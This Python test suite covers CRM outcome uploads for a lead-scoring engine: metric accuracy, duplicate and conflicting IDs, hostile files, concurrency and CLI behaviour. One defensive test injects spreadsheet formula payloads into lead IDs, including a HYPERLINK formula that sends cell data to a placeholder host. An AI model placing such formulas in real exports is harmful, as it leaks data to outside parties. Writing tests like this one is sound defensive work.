"""Outcomes back from the CRM (engine/outcomes.py, engine/outcomes_report.py, `python -m engine outcomes`): real
lists scored by the small stack, matched to real outcomes; hostile files; the store under concurrent uploads."""

import json
import threading
import time

import numpy as np
import pandas as pd
import pytest
from sklearn.metrics import brier_score_loss, roc_auc_score
from support import copy_run

from engine.cli import main
from engine.data.demo import demo_leads
from engine.live import LiveStore, deployable
from engine.outcomes import OutcomeError, OutcomeStore, read_outcomes
from engine.outcomes_report import upload_outcomes
from engine.runs import RunStore
from engine.scored_lists import ScoredStore

RUN_ID = "20260101T120000-stacking-aaaaaa"


@pytest.fixture
def scored(small_stack_run, tmp_path, monkeypatch):
    """A workspace with the small stack live and one week of 300 demo leads scored by `score` (so stored); returns
    (workspace, the leads with their outcomes)."""
    run, _ = small_stack_run
    root = tmp_path / "workspace"
    copy_run(run.path, root / "runs", RUN_ID)
    monkeypatch.setenv("CLAB_WORKSPACE", str(root))
    store = RunStore(root / "runs")
    LiveStore.beside(store).deploy(deployable(store, RUN_ID, load=False))
    leads = demo_leads(n=300, seed=11)
    week = tmp_path / "week.csv"
    leads.drop(columns=["Converted"]).to_csv(week, index=False)
    assert main(["score", "--data", str(week), "--out", str(tmp_path / "ranked.csv")]) == 0
    return root, leads


def outcomes_csv(path, ids, outcomes, id_name="Prospect ID", outcome_name="Outcome"):
    pd.DataFrame({id_name: ids, outcome_name: outcomes}).to_csv(path, index=False)
    return path


def test_the_scored_list_records_its_run_live_version_and_shift(scored):
    (meta,) = ScoredStore().list()
    assert meta["run_id"] == RUN_ID and meta["live_version"] == 1 and meta["family"] == "demo leads"
    assert meta["id_columns"] == ["Prospect ID", "Lead Number"]
    assert meta["shift"]["verdict"]


def test_score_no_store_keeps_nothing(scored, tmp_path):
    leads = demo_leads(n=50, seed=12).drop(columns=["Converted"])
    leads.to_csv(tmp_path / "other.csv", index=False)
    assert main(["score", "--data", str(tmp_path / "other.csv"), "--no-store"]) == 0
    assert len(ScoredStore().list()) == 1


def test_realized_metrics_equal_scikit_learn_on_the_matched_rows(scored, tmp_path):
    root, leads = scored
    part = leads.iloc[:240]  # 60 leads have no outcome yet
    words = np.where(part["Converted"] == 1, "Won", "LOST")
    f = outcomes_csv(tmp_path / "won.csv", part["Prospect ID"], words)
    report = upload_outcomes(f, "won.csv")
    # independently: the stored list's probabilities joined to the outcomes by id
    (meta,) = ScoredStore().list()
    ranked = pd.read_csv(ScoredStore().path(meta["sha256"]))
    joined = ranked.merge(part[["Prospect ID", "Converted"]], on="Prospect ID")
    y, p = joined["Converted"].to_numpy(), joined["probability"].to_numpy()
    assert report["matched"] == len(joined) == 240
    assert report["roc_auc"] == pytest.approx(roc_auc_score(y, p), abs=1e-12)
    assert report["brier"] == pytest.approx(brier_score_loss(y, p), abs=1e-12)
    low, high = report["roc_auc_ci"]
    assert low <= report["roc_auc"] <= high and high - low < 0.3
    for tier, got in report["by_tier"].items():
        mask = joined["tier"] == tier
        assert got["leads"] == mask.sum() and got["rate"] == pytest.approx(joined.loc[mask, "Converted"].mean())
    top = joined.sort_values("probability", ascending=False, kind="mergesort").head(24)
    assert report["lift_top10"] == pytest.approx(top["Converted"].mean() / y.mean())
    (entry,) = report["lists"]
    assert entry["roc_auc"] == report["roc_auc"] and entry["run_id"] == RUN_ID and entry["live_version"] == 1
    promised = RunStore().get(RUN_ID).metrics["metrics"]["roc_auc"]
    assert entry["promised"]["roc_auc"] == promised["value"]
    assert any(line.startswith("A-tier leads converted at") and "the run promised" in line for line in report["words"])
    assert report["upload"]["matched"] == 240 and report["upload"]["unmatched"] == 0


def test_same_file_twice_changes_nothing(scored, tmp_path):
    _, leads = scored
    f = outcomes_csv(tmp_path / "won.csv", leads["Prospect ID"], leads["Converted"])
    first = upload_outcomes(f, "won.csv")
    folder = OutcomeStore().root
    before = {p: p.stat().st_mtime_ns for p in folder.rglob("*") if p.is_file() and not p.name.endswith(".lock")}
    second = upload_outcomes(f, "won.csv")
    after = {p: p.stat().st_mtime_ns for p in folder.rglob("*") if p.is_file() and not p.name.endswith(".lock")}
    assert first["upload"]["added"] and not second["upload"]["added"] and before == after
    strip = lambda r: {k: v for k, v in r.items() if k != "upload"}  # noqa: E731
    assert strip(first) == strip(second)


def test_unknown_duplicate_and_conflicting_ids_are_said(scored, tmp_path):
    _, leads = scored
    ids = list(leads["Prospect ID"][:100]) + ["nobody-1", "nobody-2"] + [leads["Prospect ID"][0]] * 2
    ids += [leads["Prospect ID"][1]]
    outcome = ["y" if v else "0" for v in leads["Converted"][:100]] + ["yes", "no"]
    outcome += ["won" if leads["Converted"][0] else "lost"] * 2 + ["Won" if not leads["Converted"][1] else "LOST"]
    report = upload_outcomes(outcomes_csv(tmp_path / "o.csv", ids, outcome), "o.csv")
    up = report["upload"]
    assert up["unmatched"] == 2 and set(up["unmatched_examples"]) == {"nobody-1", "nobody-2"}
    assert up["duplicates"] == 1 and up["conflicting"] == 1
    assert up["conflicting_examples"] == [leads["Prospect ID"][1]]
    assert report["matched"] == 99  # 100 known ids, less the conflicting one


def test_a_later_upload_that_disagrees_is_kept_and_left_out(scored, tmp_path):
    _, leads = scored
    upload_outcomes(outcomes_csv(tmp_path / "a.csv", leads["Prospect ID"][:50], leads["Converted"][:50]), "a.csv")
    flipped = 1 - leads["Converted"][:5]
    report = upload_outcomes(outcomes_csv(tmp_path / "b.csv", leads["Prospect ID"][:5], flipped), "b.csv")
    assert report["upload"]["differs_from_earlier"] == 5 and len(OutcomeStore().list()) == 2
    assert report["matched"] == 45 and report["outcomes"]["conflicting_between_uploads"] == 5


def test_outcome_words_of_other_forms_read_by_one_rule(tmp_path):
    f = outcomes_csv(
        tmp_path / "w.csv", ["a", "b", "c", "d", "e", "f"], ["Won", "LOST", "y", "0", " Yes ", "closed lost"]
    )
    got = read_outcomes(f).frame.set_index("id")["outcome"].to_dict()
    assert got == {"a": 1, "b": 0, "c": 1, "d": 0, "e": 1, "f": 0}
    bad = outcomes_csv(tmp_path / "bad.csv", ["a", "b"], ["won", "negotiation"])
    with pytest.raises(OutcomeError, match="'negotiation' \\(1 rows\\).*won/lost"):
        read_outcomes(bad)


def test_another_datasets_ids_match_nothing_and_store_nothing(scored, tmp_path):
    f = outcomes_csv(tmp_path / "bank.csv", [f"cust-{i}" for i in range(50)], [i % 2 for i in range(50)])
    with pytest.raises(OutcomeError, match="none of the 50 ids of bank.csv .* another dataset's file"):
        upload_outcomes(f, "bank.csv")
    assert OutcomeStore().list() == []


def test_hostile_files_get_a_clear_error(scored, tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(OutcomeError, match="is empty"):
        upload_outcomes(tmp_path / "empty.csv", "empty.csv")
    (tmp_path / "bin.csv").write_bytes(bytes(range(256)) * 40)
    with pytest.raises(OutcomeError, match="binary data"):
        upload_outcomes(tmp_path / "bin.csv", "bin.csv")
    f = outcomes_csv(tmp_path / "noid.csv", ["a"], [1], id_name="Customer")
    with pytest.raises(OutcomeError, match="no lead id column.*'Customer', 'Outcome'.*--id"):
        upload_outcomes(f, "noid.csv")
    with pytest.raises(OutcomeError, match="'Lead' is not in the file. The columns are: 'Customer', 'Outcome'"):
        upload_outcomes(f, "noid.csv", id_column="Lead")
    (tmp_path / "head.csv").write_text("Prospect ID,Outcome\n")
    with pytest.raises(OutcomeError, match="no rows"):
        upload_outcomes(tmp_path / "head.csv", "head.csv")
    assert OutcomeStore().list() == []


def test_formulas_in_ids_are_never_run_nor_written_back(small_stack_run, tmp_path, monkeypatch):
    run, _ = small_stack_run
    root = tmp_path / "workspace"
    copy_run(run.path, root / "runs", RUN_ID)
    monkeypatch.setenv("CLAB_WORKSPACE", str(root))
    leads = demo_leads(n=60, seed=13)
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    leads.loc[0, "Prospect ID"] = evil
    leads.loc[1, "Prospect ID"] = "@SUM(1+1)"
    leads.drop(columns=["Converted"]).to_csv(tmp_path / "week.csv", index=False)
    assert main(["score", "--data", str(tmp_path / "week.csv")]) == 0
    f = outcomes_csv(tmp_path / "o.csv", [f"  {evil}", "@SUM(1+1)", "+1-2"], [1, 0, 1])
    report = upload_outcomes(f, "o.csv")
    assert report["upload"]["matched"] == 2 and report["upload"]["unmatched_examples"] == ["'+1-2"]
    stored = (OutcomeStore().root / report["upload"]["sha256"] / "outcomes.csv").read_text()
    assert "'=HYPERLINK" in stored and "\n=" not in stored and "\n@" not in stored and "\n+" not in stored


@pytest.mark.slow  # about 18 s with writing the file, on the shared 2-core machine
def test_a_million_row_outcomes_file(scored, tmp_path):
    _, leads = scored
    n = 1_000_000
    ids = np.char.add("lead-", np.arange(n).astype(str)).astype(object)
    ids[: len(leads)] = leads["Prospect ID"].to_numpy()
    outcome = np.where(np.arange(n) % 3 == 0, "won", "lost").astype(object)
    outcome[: len(leads)] = np.where(leads["Converted"] == 1, "won", "lost")
    f = tmp_path / "big.csv"
    pd.DataFrame({"Prospect ID": ids, "Outcome": outcome}).to_csv(f, index=False)
    started = time.perf_counter()
    report = upload_outcomes(f, "big.csv")
    seconds = time.perf_counter() - started
    assert report["upload"]["rows"] == n and report["upload"]["matched"] == len(leads)
    assert report["upload"]["unmatched"] == n - len(leads) and report["matched"] == len(leads)
    assert seconds < 30, seconds  # read, matched and stored in about 10 s on the shared 2-core machine


def test_concurrent_uploads_keep_the_store_consistent(scored, tmp_path):
    _, leads = scored
    files = [
        outcomes_csv(
            tmp_path / f"o{i}.csv", leads["Prospect ID"][i * 50 : i * 50 + 50], leads["Converted"][i * 50 : i * 50 + 50]
        )
        for i in range(3)
    ]
    files.append(files[0])  # the same file from two threads at once: one entry
    errors, reports = [], []

    def go(path):
        try:
            reports.append(upload_outcomes(path, path.name))
        except Exception as exc:  # noqa: BLE001 - the test reports it
            errors.append(exc)

    threads = [threading.Thread(target=go, args=(f,)) for f in files]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert len(OutcomeStore().list()) == 3 and sum(r["upload"]["added"] for r in reports) == 3
    known, conflicting = OutcomeStore().known()
    assert len(known) == 150 and conflicting == []


def test_the_cli_exit_codes_and_json(scored, tmp_path, capsys):
    _, leads = scored
    f = outcomes_csv(tmp_path / "won.csv", leads["Prospect ID"], leads["Converted"], outcome_name="Status")
    out = tmp_path / "report.json"
    assert main(["outcomes", "--data", str(f), "--json", str(out)]) == 0
    report = json.loads(out.read_text())
    for key in ("matched", "roc_auc", "roc_auc_ci", "brier", "by_tier", "lists"):
        assert key in report
    assert report["matched"] == 300 and report["lists"][0]["matched"] == 300
    said = capsys.readouterr().out
    assert "300 matched a scored list" in said and "A-tier leads converted at" in said
    assert main(["outcomes", "--data", str(f)]) == 0
    assert "uploaded before: nothing changed" in capsys.readouterr().out
    assert main(["outcomes", "--data", str(f), "--id", "Lead"]) == 2
    assert "error: the id column 'Lead' is not in the file" in capsys.readouterr().err
    assert main(["outcomes", "--data", str(tmp_path / "missing.csv")]) == 2
    assert main(["outcomes", "--data", str(f), "--json", str(f)]) == 2  # would replace the outcomes file


def test_an_alert_fires_when_the_list_ranks_worse_than_promised(scored, tmp_path, capsys):
    _, leads = scored
    (meta,) = ScoredStore().list()
    ranked = pd.read_csv(ScoredStore().path(meta["sha256"]))
    # outcomes that run against the scores: the best-scored half lost, the rest won
    lost = ranked["rank"] <= len(ranked) // 2
    f = outcomes_csv(tmp_path / "bad.csv", ranked["Prospect ID"], np.where(lost, "lost", "won"))
    assert main(["outcomes", "--data", str(f), "--fail-on-alert"]) == 1
    err = capsys.readouterr().err
    assert "ALERT:" in err and "realized ROC-AUC 0.00 is below the interval run" in err
    assert "calibration moved" in err
